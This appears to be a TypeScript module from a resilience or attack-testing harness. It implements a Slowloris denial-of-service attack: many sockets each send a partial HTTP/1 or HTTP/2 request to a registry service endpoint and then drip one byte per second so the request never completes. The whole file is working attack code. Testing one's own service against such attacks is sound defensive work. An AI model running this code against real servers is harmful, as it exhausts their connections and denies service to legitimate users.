import {
  callHeaders,
  END_HEADERS,
  FRAME,
  frame,
  helloFrames,
  PREFACE,
} from "../../wire/raw-frames.js";
import { type Attack, openMany } from "./attack.js";

const REGISTER = "/pulse.v1.RegistryService/Register";
const DRIP_EACH_MS = 1_000;

/** How each begins, and what then drips. */
const FORMS: Readonly<Record<string, readonly [begin: Buffer, drip: string]>> = {
  "HTTP/1 headers": [Buffer.from(`POST ${REGISTER} HTTP/1.1\r\nhost: x\r\n`), "x: y\r\n"],
  "HTTP/1 body": [
    Buffer.from(
      `POST ${REGISTER} HTTP/1.1\r\nhost: x\r\ncontent-type: application/proto\r\ncontent-length: 100000\r\n\r\n`,
    ),
    "x",
  ],
  "HTTP/2 preface": [PREFACE.subarray(0, 3), ""],
  "HTTP/2 HEADERS": [
    Buffer.concat([
      helloFrames(),
      frame(FRAME.headers, END_HEADERS, 1, Buffer.alloc(16_000)).subarray(0, 20),
    ]),
    "\0",
  ],
  "HTTP/2 message": [
    Buffer.concat([
      helloFrames(),
      frame(FRAME.headers, END_HEADERS, 1, callHeaders(REGISTER)),
      frame(FRAME.data, 0, 1, Buffer.from([0, 0, 3, 0, 0])),
    ]),
    "message",
  ],
};

export const SLOW_FORMS = Object.keys(FORMS);

/** Slowloris: what was begun goes on a byte at a time, and never ends. */
export const slow: Attack = async (config, harvest) => {
  const [begin = Buffer.alloc(0), drip = ""] = FORMS[config.form ?? ""] ?? [];
  const bytes = drip === "message" ? frame(FRAME.data, 0, 1, Buffer.from([0])) : Buffer.from(drip);
  await openMany(config, harvest, config.count, (socket) => {
    socket.resume();
    socket.once("end", () => socket.destroy());
    socket.write(begin);
    setInterval(() => {
      if (!socket.destroyed) socket.write(bytes);
    }, DRIP_EACH_MS).unref();
  });
};
